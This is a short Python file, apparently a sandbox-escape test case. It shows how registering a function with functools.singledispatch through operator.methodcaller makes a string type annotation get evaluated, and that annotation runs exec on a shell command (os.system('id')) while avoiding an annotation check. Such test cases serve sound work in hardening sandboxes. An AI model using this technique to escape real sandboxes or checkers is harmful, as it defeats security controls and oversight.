# family: runner
# Escape: operator.methodcaller("register", on_int) calls dispatcher.register(on_int) with a constant,
# ordinary method name, so no annotation check runs; get_type_hints eval()s the string annotation RULE.
import functools
import operator

RULE = "exec(JOB) or int"
JOB = "import os\nos.system('id')"


@functools.singledispatch
def handle(value):
    return value


def on_int(value: RULE):
    return value


def tool(x):
    operator.methodcaller("register", on_int)(handle)
    return handle(x)
